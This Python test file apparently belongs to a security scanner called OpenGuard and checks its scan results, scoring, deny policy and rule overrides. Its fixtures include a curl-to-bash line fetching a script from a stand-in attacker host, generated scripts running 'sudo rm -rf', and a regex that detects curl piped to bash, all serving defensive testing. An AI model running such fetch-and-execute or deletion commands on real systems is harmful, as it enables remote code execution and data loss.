# Copyright 2026 Cisco Systems, Inc.
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# SPDX-License-Identifier: Apache-2.0

"""
Tests for the scanner orchestrator.
"""

import pytest

from openguard.config.config import Config
from openguard.core.exceptions import ScanError, TargetLoadError
from openguard.core.scanner import OpenGuardScanner, scan_directory

RISKY_TREE = {
    "install.sh": "#!/bin/sh\ncurl https://evil.example/install.sh | bash\n",
    "README.md": "# Project\n\nNothing to see here.\n",
    "logo.png": b"\x89PNG\r\n\x1a\n",
}


class TestOpenGuardScanner:
    def test_scan_risky_tree(self, make_tree, catalog):
        root = make_tree(RISKY_TREE)
        result = OpenGuardScanner(config=Config(), catalog=catalog).scan(root)

        assert result.target == str(root.resolve())
        assert result.files_scanned == 3
        assert result.rules_loaded == len(catalog)
        assert result.rule_format_version == "1"
        assert "OG-SHELL-001" in {f.rule_id for f in result.findings}
        assert result.score.has_critical
        assert result.score.total >= 60
        assert "curl" in {c.cmd for c in result.policy.deny.commands}

    def test_clean_tree(self, make_tree, catalog):
        root = make_tree({"notes.txt": "hello", "src/app.py": "print('hi')\n"})
        result = OpenGuardScanner(catalog=catalog).scan(root)

        assert result.findings == []
        assert result.score.total == 0
        assert result.max_severity is None
        assert result.policy.deny.commands == []

    def test_to_dict(self, make_tree, catalog):
        root = make_tree(RISKY_TREE)
        data = OpenGuardScanner(catalog=catalog).scan(root).to_dict()

        assert set(data) == {
            "target",
            "files_scanned",
            "findings_count",
            "max_severity",
            "score",
            "findings",
            "policy",
            "rules_loaded",
            "rule_format_version",
            "scan_duration_seconds",
            "timestamp",
        }
        assert data["findings_count"] == len(data["findings"])
        assert data["max_severity"] == "critical"
        assert data["policy"]["defaults"]["action"] == "deny"

    def test_workers_do_not_change_results(self, make_tree, catalog):
        files = {f"scripts/s{i}.sh": f"echo {i}\nsudo rm -rf /tmp/{i}\n" for i in range(8)}
        root = make_tree(files)

        serial = OpenGuardScanner(config=Config(max_workers=1), catalog=catalog).scan(root)
        parallel = OpenGuardScanner(config=Config(max_workers=4), catalog=catalog).scan(root)

        assert [f.to_dict() for f in serial.findings] == [f.to_dict() for f in parallel.findings]
        assert serial.score == parallel.score
        assert serial.policy == parallel.policy

    def test_missing_target(self, tmp_path, catalog):
        with pytest.raises(TargetLoadError):
            OpenGuardScanner(catalog=catalog).scan(tmp_path / "absent")

    def test_target_is_file(self, tmp_path, catalog):
        fp = tmp_path / "file.sh"
        fp.write_text("echo hi", encoding="utf-8")
        with pytest.raises(TargetLoadError):
            OpenGuardScanner(catalog=catalog).scan(fp)

    def test_undecodable_in_scope_file(self, make_tree, catalog):
        root = make_tree({"bad.sh": b"echo \xff\xfe\n"})
        with pytest.raises(ScanError):
            OpenGuardScanner(catalog=catalog).scan(root)


class TestScanDirectory:
    def test_loads_packaged_catalog(self, make_tree):
        root = make_tree(RISKY_TREE)
        result = scan_directory(root)
        assert result.rules_loaded == 40
        assert result.findings

    def test_override_rules(self, make_tree, tmp_path):
        override_dir = tmp_path / "override"
        override_dir.mkdir()
        (override_dir / "shell.yaml").write_text(
            "rules:\n"
            "  - id: OG-SHELL-001\n"
            "    title: Remote script piped to shell\n"
            "    description: Downgraded for this project\n"
            "    severity: low\n"
            "    confidence: high\n"
            "    category: shell\n"
            "    scope:\n"
            "      file_types: [shell]\n"
            "    patterns:\n"
            "      - regex: 'curl[^|\\n]*\\|\\s*bash'\n"
            "        description: curl piped to bash\n",
            encoding="utf-8",
        )
        root = make_tree(RISKY_TREE)
        result = scan_directory(root, Config(override_rules_dir=override_dir))

        shell_001 = [f for f in result.findings if f.rule_id == "OG-SHELL-001"]
        assert shell_001
        assert all(f.severity.value == "low" for f in shell_001)
